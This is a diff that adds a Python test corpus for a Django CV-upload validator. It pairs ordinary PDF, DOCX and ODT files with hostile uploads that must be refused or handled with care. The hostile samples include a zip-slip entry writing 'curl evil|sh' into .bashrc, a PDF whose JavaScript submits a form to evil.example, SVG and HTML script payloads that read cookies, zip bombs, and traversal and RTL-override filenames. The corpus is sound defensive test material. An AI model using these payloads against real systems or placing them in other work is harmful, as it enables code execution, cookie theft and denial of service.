@@ -1,0 +1,259 @@
+"""Files people might upload as a CV or letter, built in code at test time (no binaries in git).
+
+``HOSTILE`` are files that must be refused (each with the ValidationError code and message it must get),
+plus one valid but dangerous PDF (JavaScript action) that is accepted and must only ever go out as an
+attachment. ``GOOD`` are ordinary documents that must be accepted. Each ``Sample.make()`` returns a
+fresh Django ``UploadedFile`` named and typed the way a browser would send it; close it when done.
+
+Other apps' tests (the application form) can reuse these: ``from tests.core.upload_corpus import HOSTILE``.
+"""
+
+import io
+import random
+import zipfile
+from collections.abc import Callable
+from dataclasses import dataclass
+from functools import cache
+
+from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile, UploadedFile
+
+MB = 1024 * 1024
+FORMATS = "PDF, Word (DOCX) or OpenDocument (ODT)"
+
+# The message each refusal code must show (default allowed kinds and the 10 MB limit).
+MESSAGES = {
+    "file_type": f"This file is not a {FORMATS} document. Please upload it in one of these formats.",
+    "empty": f"This file is empty. Please choose your document again: {FORMATS}, at most 10 MB.",
+    "zip_bomb": (
+        "This file would expand to far too much data when opened, so we cannot accept it. "
+        f"Please save your document again as {FORMATS} and upload the new file."
+    ),
+    "macros": (
+        "This Word document contains macros, which we do not accept. "
+        "Please save it as a normal Word document (DOCX) or as PDF and upload it again."
+    ),
+}
+
+
+@dataclass(frozen=True)
+class Sample:
+    id: str
+    make: Callable[[], UploadedFile]
+    code: str | None = None  # the ValidationError code it must get; None: accepted
+    kind: str | None = None  # the kind it is accepted as
+    message: str | None = None  # when it differs from MESSAGES[code]
+
+    @property
+    def expected_message(self) -> str | None:
+        return self.message or MESSAGES.get(self.code)
+
+
+def upload(name: str, data: bytes, content_type: str = "application/pdf") -> SimpleUploadedFile:
+    return SimpleUploadedFile(name, data, content_type=content_type)
+
+
+# --- good documents --------------------------------------------------------------------------
+
+
+@cache
+def pdf_bytes() -> bytes:
+    """A real one-page PDF, made by typst."""
+    import typst
+
+    return typst.compile(b"= Curriculum vitae\nHello, I manage a cluster.", format="pdf")
+
+
+def zip_bytes(members: list[tuple[str, bytes]], compression=zipfile.ZIP_DEFLATED) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", compression) as archive:
+        for name, data in members:
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+DOCX_PARTS = [
+    (
+        "[Content_Types].xml",
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
+        b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
+        b'<Default Extension="xml" ContentType="application/xml"/>'
+        b'<Override PartName="/word/document.xml" '
+        b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
+        b"</Types>",
+    ),
+    (
+        "_rels/.rels",
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        b'<Relationship Id="rId1" Target="word/document.xml" '
+        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"/>'
+        b"</Relationships>",
+    ),
+    (
+        "word/document.xml",
+        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
+        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
+        b"<w:body><w:p><w:r><w:t>Curriculum vitae</w:t></w:r></w:p></w:body></w:document>",
+    ),
+]
+
+
+def docx_bytes(extra: list[tuple[str, bytes]] = ()) -> bytes:
+    return zip_bytes([*DOCX_PARTS, *extra])
+
+
+def odt_bytes(mimetype: bytes = b"application/vnd.oasis.opendocument.text", mimetype_first: bool = True) -> bytes:
+    """An ODT the way LibreOffice writes one: ``mimetype`` first and stored, then the manifest and content."""
+    content = (
+        b'<?xml version="1.0" encoding="UTF-8"?>'
+        b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
+        b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3">'
+        b"<office:body><office:text><text:p>Curriculum vitae</text:p></office:text></office:body>"
+        b"</office:document-content>"
+    )
+    manifest = (
+        b'<?xml version="1.0" encoding="UTF-8"?>'
+        b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" '
+        b'manifest:version="1.3">'
+        b'<manifest:file-entry manifest:full-path="/" manifest:media-type="' + mimetype + b'"/>'
+        b'<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
+        b"</manifest:manifest>"
+    )
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        if mimetype_first:
+            archive.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
+        archive.writestr("META-INF/manifest.xml", manifest)
+        archive.writestr("content.xml", content)
+        if not mimetype_first:
+            archive.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
+    return buffer.getvalue()
+
+
+DOCX_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
+
+GOOD = [
+    Sample("pdf", lambda: upload("Anna Virtanen CV.pdf", pdf_bytes()), kind="pdf"),
+    Sample("docx", lambda: upload("cv.docx", docx_bytes(), DOCX_TYPE), kind="docx"),
+    Sample("odt", lambda: upload("cv.odt", odt_bytes(), "application/vnd.oasis.opendocument.text"), kind="odt"),
+    # Judged by content: a DOCX with the wrong name and a PDF with a scary browser type are still fine.
+    Sample("docx_named_pdf", lambda: upload("cv.pdf", docx_bytes()), kind="docx"),
+    Sample("pdf_odd_content_type", lambda: upload("cv.pdf", pdf_bytes(), "application/x-msdownload"), kind="pdf"),
+]
+
+
+# --- hostile files ---------------------------------------------------------------------------
+
+
+def pdf_with_javascript() -> bytes:
+    """A small, well-formed PDF that runs JavaScript when opened (an /OpenAction with /JS)."""
+    objects = [
+        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
+        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
+        b"<< /Type /Action /S /JavaScript "
+        b"/JS (app.alert\\('pwned'\\); this.submitForm\\('https://evil.example/'\\);) >>",
+    ]
+    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
+    offsets = []
+    for number, body in enumerate(objects, start=1):
+        offsets.append(len(out))
+        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
+    xref = len(out)
+    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
+    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
+    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
+    return bytes(out)
+
+
+ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(480)
+PE = (
+    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
+    + bytes(44)
+    + b"\x80\x00\x00\x00"  # e_lfanew
+    + b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
+).ljust(0x80, b"\x00") + b"PE\x00\x00\x64\x86" + bytes(400)
+HTML = b"<!DOCTYPE html><html><body><h1>CV</h1><script>fetch('/staff/').then(r=>r.text()).then(alert)</script>"
+SVG = (
+    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)">'
+    b"<script>alert(1)</script><text>CV</text></svg>"
+)
+
+
+ODS_MIMETYPE = b"application/vnd.oasis.opendocument.spreadsheet"
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)  # what vbaProject.bin starts with
+
+
+def jpeg_bytes() -> bytes:
+    from PIL import Image
+
+    buffer = io.BytesIO()
+    Image.new("RGB", (16, 16), (200, 30, 30)).save(buffer, "JPEG")
+    return buffer.getvalue()
+
+
+@cache
+def zip_bomb(member_size: int) -> bytes:
+    """A DOCX-shaped zip whose document.xml unpacks to ``member_size`` bytes of zeros (written in chunks)."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, data in DOCX_PARTS[:2]:
+            archive.writestr(name, data)
+        with archive.open("word/document.xml", "w", force_zip64=True) as member:
+            block = bytes(MB)
+            for _ in range(member_size // MB):
+                member.write(block)
+    return buffer.getvalue()
+
+
+def many_members() -> bytes:
+    return docx_bytes([(f"word/media/pad{i}.xml", b"") for i in range(2001)])
+
+
+def big_sparse_pdf(real_size: int, claimed_size: int | None = None) -> TemporaryUploadedFile:
+    """A PDF-looking file of ``real_size`` bytes that costs no memory and (sparse) almost no disk."""
+    upload_file = TemporaryUploadedFile("cv.pdf", "application/pdf", claimed_size or real_size, None)
+    upload_file.write(b"%PDF-1.7\n")
+    upload_file.truncate(real_size)
+    upload_file.seek(0)
+    return upload_file
+
+
+HOSTILE = [
+    Sample("elf_executable", lambda: upload("cv.pdf", ELF), "file_type"),
+    Sample("windows_executable", lambda: upload("cv.pdf", PE), "file_type"),
+    Sample("html", lambda: upload("cv.pdf", HTML), "file_type"),
+    Sample("svg_with_script", lambda: upload("cv.pdf", SVG), "file_type"),
+    Sample("jpeg", lambda: upload("cv.pdf", jpeg_bytes()), "file_type"),
+    Sample("pdf_marker_not_at_start", lambda: upload("cv.pdf", b"Dear committee,\n%PDF-1.7\n1 0 obj\n"), "file_type"),
+    Sample("polyglot_mz_then_pdf", lambda: upload("cv.pdf", PE + pdf_bytes()), "file_type"),
+    Sample("exe_with_docx_appended", lambda: upload("cv.docx", PE + docx_bytes(), DOCX_TYPE), "file_type"),
+    Sample("plain_zip", lambda: upload("cv.docx", zip_bytes([("notes.txt", b"hello")]), DOCX_TYPE), "file_type"),
+    Sample("random_bytes", lambda: upload("cv.docx", random.Random(7).randbytes(4096), DOCX_TYPE), "file_type"),
+    Sample("truncated_docx", lambda: upload("cv.docx", docx_bytes()[:300], DOCX_TYPE), "file_type"),
+    Sample("zip_slip_docx", lambda: upload("cv.docx", docx_bytes([("../../.bashrc", b"curl evil|sh")])), "file_type"),
+    Sample("odt_wrong_mimetype", lambda: upload("cv.odt", odt_bytes(ODS_MIMETYPE)), "file_type"),
+    Sample("odt_mimetype_not_first", lambda: upload("cv.odt", odt_bytes(mimetype_first=False)), "file_type"),
+    Sample("docx_with_macros", lambda: upload("cv.docx", docx_bytes([("word/vbaProject.bin", OLE)])), "macros"),
+    Sample("zip_bomb_101_mb", lambda: upload("cv.docx", zip_bomb(101 * MB), DOCX_TYPE), "zip_bomb"),
+    Sample("zip_bomb_ratio", lambda: upload("cv.docx", zip_bomb(20 * MB), DOCX_TYPE), "zip_bomb"),
+    Sample("zip_2001_members", lambda: upload("cv.docx", many_members(), DOCX_TYPE), "zip_bomb"),
+    Sample("empty", lambda: upload("cv.pdf", b""), "empty"),
+    Sample("path_and_nul_in_name", lambda: upload("../../etc/passwd\x00.pdf", HTML), "file_type"),
+    Sample("right_to_left_override_name", lambda: upload("cv\u202efdp.exe", ELF), "file_type"),
+    Sample(
+        "fifty_mb",
+        lambda: big_sparse_pdf(50 * MB),
+        "too_large",
+        message="This file is 50.0 MB; the limit is 10 MB. Please upload a smaller file.",
+    ),
+    Sample(
+        "size_claim_lies",  # .size says 1 kB; reading finds out, stopping one chunk past the limit
+        lambda: big_sparse_pdf(50 * MB, claimed_size=1024),
+        "too_large",
+        message="This file is 10.1 MB; the limit is 10 MB. Please upload a smaller file.",
+    ),
+    # Valid, and dangerous: accepted, but must only ever be served as an attachment (see test_files).
+    Sample("pdf_with_javascript", lambda: upload("cv.pdf", pdf_with_javascript()), kind="pdf"),
+]
